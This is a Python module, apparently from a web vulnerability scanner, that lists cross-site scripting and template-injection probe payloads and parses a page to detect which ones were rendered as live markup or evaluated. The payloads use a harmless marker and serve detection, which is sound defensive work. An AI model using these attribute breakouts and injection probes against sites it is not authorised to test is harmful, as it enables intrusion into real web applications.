"""Texts that try to be markup, and the search for one that became it."""

from html.parser import HTMLParser

MARK = "xss7"
PAYLOADS = (
    f"<script>{MARK}()</script>",
    f'"><{MARK} onload={MARK}()>',
    f"'><{MARK}>",
    f"' onmouseover='{MARK}()",
    f'" onfocus="{MARK}()" autofocus="',
    f"</textarea><{MARK}>",
    f"</title></style><{MARK}>",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"javascript:{MARK}()",
    "{{7*191}}{%print(7*191)%}${7*191}",
    f"<!--<{MARK}>-->]]><{MARK}>",
    f"\\u003c{MARK}\\u003e&lt;{MARK}&gt;&#60;{MARK}&#62;",
)
ALL = " ".join(PAYLOADS)


class _Broken(HTMLParser):
    """What of a page came from a payload and is markup now."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_script = tag == "script"
        for name, value in attrs:
            if (
                name.startswith("on")
                or MARK in name
                or (value or "").strip().lower().startswith("javascript:")
            ):
                self.found.append(f"<{tag} {name}={value}>")
        if MARK in tag:
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self._is_script and MARK in data:
            self.found.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._is_script = False


def broken_out(page: str) -> list[str]:
    """Markup that a payload made; a template that ran it."""
    parser = _Broken()
    parser.feed(page)
    return parser.found + (["7*191"] if "1337" in page else [])
